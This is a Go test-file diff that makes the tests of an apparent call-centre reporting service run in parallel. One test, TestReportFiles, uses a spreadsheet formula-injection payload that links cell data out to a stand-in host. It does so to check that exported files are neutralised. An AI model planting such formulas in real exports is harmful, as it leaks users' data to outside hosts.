@@ -84,6 +84,7 @@ func number[N int64 | float64](n *N) string {
 // TestServiceLevels: every figure of a queue, and the service level of each kind and threshold, those too that the kept
 // figures do not know.
 func TestServiceLevels(t *testing.T) {
+	t.Parallel()
 	c := day(t).tell(t)
 	for _, tt := range []struct {
 		name, want string // in time, abandoned in time, short abandons, service level
@@ -134,6 +135,7 @@ func TestServiceLevels(t *testing.T) {
 
 // TestDeletedCalls: what cannot be counted any more is null, rather than 0, and what figures know stays.
 func TestDeletedCalls(t *testing.T) {
+	t.Parallel()
 	l := day(t)
 	l.deleted = true
 	c := l.tell(t)
@@ -166,6 +168,7 @@ func (otherThreshold) List() []project.Project {
 
 // TestReportSpans: the rows of each interval on the days when clocks are put forward and back.
 func TestReportSpans(t *testing.T) {
+	t.Parallel()
 	for _, tt := range []struct {
 		name, zone, from, to, interval, want string
 		calls                                []string
@@ -210,6 +213,7 @@ func TestReportSpans(t *testing.T) {
 
 // TestReportsOfOthers: who is limited to projects is told of these, and who may see no numbers of none.
 func TestReportsOfOthers(t *testing.T) {
+	t.Parallel()
 	l := day(t)
 	l.times = []report.AgentTime{{Agent: "anna", State: "ready", Time: time.Minute}, {Agent: "boris", State: "ready", Time: time.Minute}, {Agent: "clara", State: "ready", Time: time.Minute}}
 	c := l.tell(t)
@@ -271,6 +275,7 @@ func TestReportsOfOthers(t *testing.T) {
 
 // TestReportsRefused: what is wrong is named.
 func TestReportsRefused(t *testing.T) {
+	t.Parallel()
 	c := day(t).tell(t)
 	full := day(t)
 	full.busy = report.MaxCallsRead + 1
@@ -329,6 +334,7 @@ func TestReportsRefused(t *testing.T) {
 
 // TestComparison: the time before is told of in the same way, and is as long by the calendar.
 func TestComparison(t *testing.T) {
+	t.Parallel()
 	l := &ledger{calls: []history.Call{came(t, "2026-01-31T23:59:59+03:00", "shop", shopNumber), came(t, "2026-02-01T00:00:00+03:00", "shop", shopNumber),
 		came(t, "2026-02-28T23:59:59+03:00", "shop", shopNumber), came(t, "2026-03-31T23:59:59+03:00", "shop", shopNumber)}}
 	c := l.tell(t)
@@ -353,6 +359,7 @@ func TestComparison(t *testing.T) {
 
 // TestAgentReport: calls of agents, and what they did, of which what nobody watched is no part.
 func TestAgentReport(t *testing.T) {
+	t.Parallel()
 	l := day(t)
 	l.calls = append(l.calls, history.Call{Begun: true, Started: noon(4), Direction: "outbound", Project: "shop", Number: shopNumber, Account: "anna", Disposition: history.Answered, Talk: 33})
 	l.calls[0].Visits[0].Attempts = []history.Attempt{{Agent: "boris"}, {Agent: "anna", Answered: true}}
@@ -399,6 +406,7 @@ func TestAgentReport(t *testing.T) {
 
 // TestHeatMap: hours are those that clocks show, each weekday's together, and one shown twice came once.
 func TestHeatMap(t *testing.T) {
+	t.Parallel()
 	l := &ledger{}
 	for _, at := range []string{"2026-10-18T00:30:00Z", "2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z", "2026-10-26T22:59:59Z"} {
 		l.calls = append(l.calls, queued(t, at, "shop", shopNumber, "sales", 10, "anna", 1, 0, 0), came(t, at, "shop", shopNumber))
@@ -435,6 +443,7 @@ func TestHeatMap(t *testing.T) {
 
 // TestCauses: how calls ended, the most first, and their share of the row's time.
 func TestCauses(t *testing.T) {
+	t.Parallel()
 	c := day(t).tell(t)
 	r := reportOf[v1.CauseRow](c, "all", "causes", "from", "2026-05-03", "to", "2026-05-04")
 	var got []string
@@ -450,6 +459,7 @@ func TestCauses(t *testing.T) {
 
 // TestReportFiles: files have the rows that JSON has, under the same names, and no spreadsheet runs what is in them.
 func TestReportFiles(t *testing.T) {
+	t.Parallel()
 	const evil = `=HYPERLINK("http://x/?"&A1)`
 	l := &ledger{calls: []history.Call{queued(t, "2026-05-04T10:00:00+03:00", "shop", shopNumber, evil, 5, "@anna", 61, 0, 10),
 		queued(t, "2026-05-04T11:00:00+03:00", "shop", shopNumber, evil, 7, "", 0, 0, 0)}}
